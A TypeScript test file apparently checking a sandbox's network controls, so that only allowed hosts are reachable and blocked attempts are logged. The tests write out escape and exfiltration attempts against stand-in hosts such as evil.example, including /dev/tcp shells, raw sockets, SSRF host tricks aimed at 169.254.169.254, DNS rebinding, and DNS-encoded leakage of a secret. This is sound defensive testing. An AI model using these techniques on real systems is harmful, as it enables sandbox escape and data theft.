/** The network of a sandbox: real namespaces, real programs inside, loopback servers as the hosts outside. */

import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer as createHttp, type IncomingMessage, type ServerResponse } from "node:http";
import { createServer as createHttps } from "node:https";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { isDeepStrictEqual } from "node:util";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { sized } from "../support/size.ts";
import { until } from "../support/until.ts";
import { type Counted, counting, type Inside, noBubblewrap, startInside } from "./inside.ts";

/** Held open at once, by programs that say nothing or half of what is needed. */
const idleConnections = sized(3_000, 10_000);

setFlagsFromString("--expose-gc");
const collect = runInNewContext("gc") as () => void;
const missing = noBubblewrap();
if (missing) process.stderr.write(`skipped: the network of the sandbox (${missing})\n`);

describe.skipIf(missing !== undefined)("the network of a sandbox", () => {
  let inside: Inside;
  let web: Counted;
  let secure: Counted;
  let ssh: Counted;
  let evil: Counted;
  const folder = mkdtempSync(join(tmpdir(), "sawtooth-network-"));

  beforeAll(async () => {
    const answer = (message: IncomingMessage, response: ServerResponse) => {
      let bytes = 0;
      message.on("data", (part: Buffer) => {
        bytes += part.length;
      });
      message.on("end", () => {
        const size = Number(/^\/size\/(\d+)/.exec(message.url ?? "")?.[1] ?? 0);
        response.end(size ? Buffer.alloc(size, "x") : `${message.headers.host} ${message.url} ${bytes}\n`);
      });
    };
    const files = ["-keyout", join(folder, "key"), "-out", join(folder, "crt")];
    const kind = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"];
    spawnSync("openssl", ["req", "-x509", ...kind, ...files, "-subj", "/CN=test"]);
    const [key, cert] = ["key", "crt"].map((name) => readFileSync(join(folder, name)));
    web = await counting(createHttp(answer));
    secure = await counting(createHttps({ key, cert }, answer));
    ssh = await counting(
      createServer((socket) => {
        socket.write("SSH-2.0-test\r\n");
        socket.on("data", () => socket.end());
      }),
    );
    evil = await counting(createServer((socket) => socket.end("evil\n")));
    inside = await startInside();
    inside.names.set("ok.example", ["203.0.113.5"]);
    inside.names.set("full.example", ["203.0.113.6"]);
    inside.names.set("evil.example", ["203.0.113.66"]);
    for (const address of ["203.0.113.5", "203.0.113.6"]) {
      inside.routes.set(`${address}:80`, web.port);
      inside.routes.set(`${address}:443`, secure.port);
      inside.routes.set(`${address}:22`, ssh.port);
    }
    for (const port of [22, 53, 80, 443]) inside.routes.set(`203.0.113.66:${port}`, evil.port);
  });

  beforeEach(() => {
    inside.rules = ["ok.example", "full.example full"];
    inside.denied = [];
    inside.answer = undefined;
    inside.ledger();
    inside.dialled.length = 0;
    inside.network.newTurn();
  });

  afterAll(() => {
    inside?.close();
    for (const server of [web, secure, ssh, evil]) server?.close();
    rmSync(folder, { recursive: true });
    expect([evil.connections(), evil.received()]).toEqual([0, 0]);
  });

  test("S36 names: curl, Python, Node, git and ssh reach an allowed host by its name, over http, https and ssh", async () => {
    const said = await inside.run(`
      curl -sS http://ok.example/a
      curl -sSk https://ok.example/b
      python3 -c 'import urllib.request as u; print(u.urlopen("http://OK.example./c").read().decode().strip())'
      node -e 'fetch("http://ok.example/d").then((r) => r.text()).then((t) => console.log(t.trim()))'
      ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no nobody@ok.example true 2>&1 | head -1
      exec 3<>/dev/tcp/ok.example/80; printf 'GET /e HTTP/1.0\\r\\n\\r\\n' >&3; tail -1 <&3`);
    for (const path of ["a", "b", "c", "d", "e"]) expect(said).toContain(`ok.example /${path} 0`);
    expect(said).toMatch(/ssh|Connection|banner|kex/i);
    expect(new Set(inside.dialled)).toEqual(new Set(["203.0.113.5:80", "203.0.113.5:443", "203.0.113.5:22"]));
    const ledger = inside.ledger();
    expect(ledger).toEqual(
      expect.arrayContaining(["allow ok.example:80 by curl", "allow ok.example:443 by curl"]),
    );
    expect(ledger.join("\n")).toMatch(/allow ok.example:22 by ssh/);
  });

  test("S31 complete-mediation: every other way out fails or has a line in the ledger", async () => {
    const said = await inside.run(`cat > /tmp/ways.py <<'E'
import ctypes, os, socket, sys
def way(name, go):
    try:
        go(); print(name, "went")
    except (OSError, ConnectionError) as error:
        print(name, type(error).__name__)
def connect(kind, address, family=socket.AF_INET, proto=0, say=b"hello"):
    s = socket.socket(family, kind, proto); s.settimeout(60 if kind == socket.SOCK_STREAM else 3); s.connect(address)
    s.send(say); got = s.recv(100)
    if not got: raise ConnectionError("closed")
for port in (22, 80, 443, 4444): way("tcp %d" % port, lambda: connect(socket.SOCK_STREAM, ("203.0.113.66", port)))
way("tcp by name", lambda: connect(socket.SOCK_STREAM, ("evil.example", 443)))
way("tcp6", lambda: connect(socket.SOCK_STREAM, ("2001:db8::66", 443), socket.AF_INET6))
way("udp", lambda: connect(socket.SOCK_DGRAM, ("203.0.113.66", 4444)))
way("sctp", lambda: connect(socket.SOCK_STREAM, ("203.0.113.66", 443), proto=132))
way("icmp", lambda: connect(socket.SOCK_DGRAM, ("203.0.113.66", 0), proto=1))
way("raw", lambda: connect(socket.SOCK_RAW, ("203.0.113.66", 0), proto=1))
way("vsock", lambda: connect(socket.SOCK_STREAM, (2, 1234), 40))
way("abstract", lambda: connect(socket.SOCK_STREAM, "\\0sawtooth-test-abstract", socket.AF_UNIX))
way("fast open", lambda: socket.socket().sendto(b"x" * 100, 0x20000000, ("203.0.113.66", 4444)))
E
      python3 /tmp/ways.py
      bash -c 'exec 3<>/dev/tcp/203.0.113.66/443; echo hello >&3; cat <&3'
      exec 4<>/dev/udp/203.0.113.66/53; echo x >&4; timeout 0.2 cat <&4; exec 4>&-`);
    expect(said.split("\n").filter((line) => line.endsWith(" went"))).toEqual([]);
    const ledger = inside.ledger().join("\n");
    for (const port of [22, 80, 443]) expect(ledger).toContain(`deny 203.0.113.66:${port}`);
    expect(inside.dialled).toEqual([]);
  });

  test("S33 host-forms: an odd host is refused in a CONNECT, in an absolute URI and in a question for a name", async () => {
    const odd = [
      "evil.example.",
      "ok.example@evil.example",
      "0x7f.1",
      "2130706433",
      "[::ffff:169.254.169.254]",
    ];
    const more = [
      "xn--",
      "a".repeat(300),
      "ok.example%%2eevil.example",
      "ok.example\\t.evil.example",
      "ok.example\\0.evil",
    ];
    const script = [...odd, ...more].map(
      (host) => `
        for line in 'CONNECT ${host}:443' 'GET http://${host}/'; do
          exec 3<>/dev/tcp/127.0.0.1/3128; printf "$line HTTP/1.1\\r\\nHost: ok.example\\r\\n\\r\\n" >&3
          timeout 5 head -1 <&3; exec 3>&-
        done`,
    );
    const said = await inside.run(script.join("\n"));
    expect(said).not.toMatch(/ 200 /);
    expect(said.match(/HTTP\/1.1 40[03]/g)?.length).toBeGreaterThan(odd.length);
    const names = await inside.run(`python3 - <<'E'
import socket
for name in ["a" * 64 + ".example", "ok.example@evil", "ok example", "x." * 130 + "example"]:
    try: print("resolved", socket.getaddrinfo(name, 443))
    except (OSError, UnicodeError, ValueError) as error: print("refused")
E`);
    expect(names).not.toContain("resolved");
    expect(inside.dialled).toEqual([]);
  });

  test("S34 rebinding: a name that leads inwards is refused, and what is dialled was looked up once", async () => {
    inside.rules.push("*.moving.example", "10.0.0.1");
    const inner = ["127.0.0.1", "169.254.169.254", "10.0.0.2", "198.51.100.200", "::ffff:7f00:1", "fd00::1"];
    for (const [index, address] of inner.entries()) inside.names.set(`n${index}.moving.example`, [address]);
    inside.names.set("both.moving.example", ["127.0.0.1", "203.0.113.5"]);
    inside.names.set("ruled.moving.example", ["10.0.0.1"]);
    inside.routes.set("10.0.0.1:80", web.port);
    const hosts = [...inner.map((_, index) => `n${index}`), "both", "ruled"].join(" ");
    const said = await inside.run(`for n in ${hosts}; do curl -sS http://$n.moving.example/; done`);
    expect(said.match(/leads to this machine or to a private network/g)).toHaveLength(inner.length);
    expect(inside.dialled).toEqual(["203.0.113.5:80", "10.0.0.1:80"]);
    // The second look finds another address, and that one is checked anew.
    inside.names.set("both.moving.example", ["127.0.0.1"]);
    expect(await inside.run("curl -sS http://both.moving.example/")).toContain("private network");
    expect(inside.dialled).toHaveLength(2);
    expect(inside.looked.filter((name) => name === "both.moving.example")).toHaveLength(2);
  });

  test("S35 sni-and-host: what a connection says inside must be the host that it was made to", async () => {
    const said = await inside.run(`
      echo 1; curl -sSk --connect-to ::ok.example:443 https://evil.example/
      echo 2; curl -sSk -H 'Host: evil.example' http://ok.example/
      echo 3; python3 -c '
import socket, ssl
c = ssl._create_unverified_context(); c.check_hostname = False
try: c.wrap_socket(socket.create_connection(("ok.example", 443)))
except OSError as e: print("cut", e)'
      echo 4; curl -sS http://ok.example:443/
      echo 5; curl -sSk https://ok.example:22/
      echo 6; curl -sSk -x http://127.0.0.1:3128 --connect-to ::ok.example:443 https://evil.example/
      echo 7; curl -sS -x http://127.0.0.1:3128 -H 'Host: evil.example' http://ok.example/
      echo 8; printf 'GET /1 HTTP/1.1\\r\\nHost: ok.example\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n' > /tmp/two
      exec 3<>/dev/tcp/ok.example/80; cat /tmp/two >&3; timeout 60 cat <&3; exec 3>&-
      echo 9; printf 'GET / HTTP/1.1\\r\\nHost: ok.example\\r\\nHost: evil.example\\r\\n\\r\\n' > /tmp/two
      exec 3<>/dev/tcp/ok.example/80; cat /tmp/two >&3; timeout 60 cat <&3; exec 3>&-`);
    expect(said).toContain("ok.example /1");
    expect(said).not.toMatch(/evil.example \//);
    const ledger = inside.entries().filter(({ decision }) => decision === "deny");
    expect(new Set(ledger.map(({ port, reason }) => `${port} ${reason}`))).toEqual(
      new Set([
        "443 other_name",
        "80 other_name",
        "443 protocol",
        "22 protocol",
        "80 malformed",
        "0 other_name",
      ]),
    );
    expect(inside.dialled).toEqual(["203.0.113.5:80"]);
  });

  test("S36 names: other kinds of questions and broken messages end in clean failures", async () => {
    const said = await inside.run(`python3 - <<'E'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("127.0.0.1", 53))
def ask(name, kind=1, flags=0x0100, raw=None):
    q = raw or struct.pack(">6H", 7, flags, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\0" + struct.pack(">2H", kind, 1)
    s.send(q); return s.recv(600)
code = lambda r: r[3] & 15
print("aaaa", code(ask(b"ok.example", 28)), struct.unpack(">H", ask(b"ok.example", 28)[6:8])[0])
print("mx", code(ask(b"ok.example", 15)), "txt", code(ask(b"ok.example", 16)), "https", code(ask(b"ok.example", 65)))
print("update", code(ask(b"ok.example", 6, 0x2800)), "ptr", code(ask(b"1.0.1.127.in-addr.arpa", 12)))
print("cut", code(ask(b"", raw=struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\x09cut")))
print("looped", code(ask(b"", raw=struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\xc0\\x0c\\0\\1\\0\\1")))
print("local", ask(b"x.localhost")[-4:] == bytes([127, 0, 0, 1]), "evil", ask(b"localhost.evil")[-4:-2] == bytes([127, 1]))
E
      echo '127.0.0.1 ok.example' >> /etc/hosts`);
    expect(said).toContain("aaaa 0 0\n");
    expect(said).toContain("mx 4 txt 4 https 4\nupdate 4 ptr 3\ncut 1\nlooped 1\nlocal True evil True\n");
    expect(said).toContain("Read-only file system");
    expect(inside.dialled).toEqual([]);
  });

  test("S37 dns-exfiltration: a name that carries data leads nowhere and stands in the ledger", async () => {
    const secret = Buffer.from("KEY=very secret").toString("hex");
    const looked = inside.looked.length;
    await inside.run(
      `getent hosts ${secret}.evil.example; curl -s --max-time 5 http://${secret}2.evil.example/`,
    );
    expect(inside.looked).toHaveLength(looked);
    expect(inside.ledger()).toEqual([
      `deny ${secret}2.evil.example:80 unknown by curl`,
      `deny ${secret}.evil.example:0 unknown by getent`,
    ]);
  });

  test("S38 no-proxy: a program that refuses proxies or asks a resolver of its own is still caught", async () => {
    const said = await inside.run(`
      NO_PROXY='*' no_proxy='*' curl -sS http://evil.example/
      curl -sS --noproxy '*' http://ok.example/direct
      python3 - <<'E'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\4evil\\7example\\0\\0\\1\\0\\1", ("8.8.8.8", 53))
print("answer of 8.8.8.8", ".".join(map(str, s.recv(600)[-4:])))
E`);
    expect(said).toContain("evil.example:80 is not on the list of hosts");
    expect(said).toContain("ok.example /direct");
    expect(said).toMatch(/answer of 8.8.8.8 127\.1\./);
    expect(inside.dialled).toEqual(["203.0.113.5:80"]);
  });

  test("S39 live-question: the connection waits for the answer, and five at once are one question", async () => {
    const questions: string[] = [];
    inside.answer = async ({ host, port, owner, kind }) => {
      questions.push(`${kind} ${host}:${port} ${owner?.line.split(" ")[0]}`);
      if (host === "new.example") inside.rules.push("new.example");
      return { decision: host === "new.example" ? "kept" : host === "once.example" ? "once" : "no" };
    };
    for (const name of ["new", "once", "no"]) inside.names.set(`${name}.example`, ["203.0.113.5"]);
    const five = "for i in 1 2 3 4 5; do curl -sS http://new.example/$i & done; wait";
    const said = await inside.run(`${five}; curl -sS http://once.example/; curl -sS http://no.example/`);
    for (const number of [1, 2, 3, 4, 5]) expect(said).toContain(`new.example /${number} 0`);
    expect(said).toContain("once.example / 0");
    expect(said).toContain("no.example:80 is not on the list of hosts");
    const asked = questions.map((text) => text.replace(/\d+$/, ""));
    expect(asked.slice(0, 1)).toEqual(["unknown new.example:80 curl"]);
    expect(asked.filter((text) => !text.includes("new.example"))).toEqual([
      ...["unknown once.example:80 curl", "unknown no.example:80 curl"],
    ]);
  });

  test("S40 budget: a host that is only fetched from gets 64 kB and a twentieth of what it sends", async () => {
    const before = web.received();
    const said = await inside.run(`
      head -c 10000000 /dev/zero | curl -sS -H Expect: --data-binary @- http://ok.example/big
      head -c 10000000 /dev/zero | curl -sS -H Expect: --data-binary @- http://full.example/big`);
    expect(said).toContain("ok.example may only be fetched from");
    expect(said).toContain("full.example /big 10000000");
    const [cut, sent] = inside.entries();
    expect(cut).toMatchObject({ host: "ok.example", decision: "cut", reason: "budget", connections: 1 });
    expect(cut?.bytesUp).toBeLessThanOrEqual(64_000);
    expect(sent).toMatchObject({ host: "full.example", decision: "allow", connections: 1 });
    expect(web.received() - before).toBe((cut?.bytesUp ?? 0) + (sent?.bytesUp ?? 0));
  });

  test("S40 budget: what a download brings allows as much more, and many small requests go through", async () => {
    const before = { received: web.received(), sent: web.sent(), secure: secure.received() };
    const said = await inside.run(`
      curl -sS http://ok.example/size/10000000 | wc -c
      head -c 400000 /dev/zero | curl -sS -H Expect: --data-binary @- http://ok.example/400k
      python3 - <<'E'
import http.client
c = http.client.HTTPConnection("ok.example")
print("small", sum(len(c.getresponse().read()) for i in range(1000) if c.request("GET", "/size/2000") is None))
E
      curl -sSk https://ok.example/size/100000 | wc -c`);
    expect(said).toContain("10000000\n");
    expect(said).toContain("ok.example /400k 400000\n");
    expect(said).toContain("small 2000000\n");
    expect(said).toContain("100000\n");
    const entries: ReturnType<typeof inside.entries> = [];
    const sum = (port: number, of: "bytesUp" | "bytesDown") =>
      entries.filter((entry) => entry.port === port).reduce((total, entry) => total + entry[of], 0);
    const sums = () => [sum(80, "bytesUp"), sum(80, "bytesDown"), sum(443, "bytesUp")];
    const counted = () => [
      web.received() - before.received,
      web.sent() - before.sent,
      secure.received() - before.secure,
    ];
    // The farewells of the last connection may still be on their way.
    await until(() => {
      entries.push(...inside.entries());
      return isDeepStrictEqual(sums(), counted());
    }, "the bytes that the servers count in the ledger");
    expect(entries.map(({ decision }) => decision)).not.toContain("cut");
  });

  test("S43 attribution: each connection belongs to the process that made it, whatever its environment says", async () => {
    // Hosts that no test before it asks: what these did may still be told.
    const hosts = ["a.ok.example", "b.ok.example", "c.ok.example"];
    for (const host of hosts) inside.names.set(host, ["203.0.113.5"]);
    inside.rules.push("*.ok.example");
    await inside.run(`
      python3 -c 'import urllib.request as u; u.urlopen("http://a.ok.example/job").read()' &
      (export SAWTOOTH_JOB=stolen; curl -sS http://b.ok.example/other) &
      curl -sS http://c.ok.example/foreground; wait`);
    const entries = inside
      .entries()
      .filter(({ host }) => hosts.includes(host))
      .map(({ host, command, program = "" }) => [
        host,
        program.split(/[ /]/).find((word) => /curl|python/.test(word)),
        command,
      ]);
    const commands = new Set(entries.map(([, , command]) => command));
    expect(entries.map(([host, program]) => `${host} ${program}`).sort()).toEqual([
      ...["a.ok.example python3", "b.ok.example curl", "c.ok.example curl"],
    ]);
    expect(commands.size).toBe(3);
    for (const command of commands) expect(command).toMatch(/^pid \d+$/);
  });

  test(`S44 proxy-robustness: ${idleConnections} idle connections, broken requests and slow ones hold nobody up`, async () => {
    const used = () => {
      collect();
      return process.memoryUsage().heapUsed;
    };
    const before = used();
    const said = await inside.run(`python3 - <<'E'
import os, resource, socket
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]; resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
idle = []
for i in range(${idleConnections}):
    try:
        s = socket.socket(); s.settimeout(100)
        s.connect(("ok.example", (80, 443, 22)[i % 3])); idle.append(s)
        if i % 5 == 0: s.send(b"GET / HTTP/1.1\\r\\nHo" if i % 3 == 0 else b"\\x16\\x03\\x01\\x02")
    except OSError: pass
print("idle", len(idle) > ${idleConnections / 2})
print(os.popen("curl -sS --max-time 200 http://ok.example/served").read().strip())
print(os.popen("curl -sSk --max-time 200 https://ok.example/served").read().strip())
E
      head -c 1000000 /dev/zero | tr '\\0' a > /tmp/header
      printf 'GET / HTTP/1.1\\r\\nHost: ok.example\\r\\nX: ' > /tmp/request; cat /tmp/header >> /tmp/request
      exec 3<>/dev/tcp/ok.example/80; cat /tmp/request >&3; timeout 2 head -c 100 <&3; exec 3>&-
      curl -sS --max-time 200 http://ok.example/after`);
    const grown = used() - before;
    expect(said).toContain("idle True\nok.example /served 0\nok.example /served 0\n");
    expect(said).toContain("ok.example /after 0");
    expect(grown).toBeLessThan(50e6);
  });
});
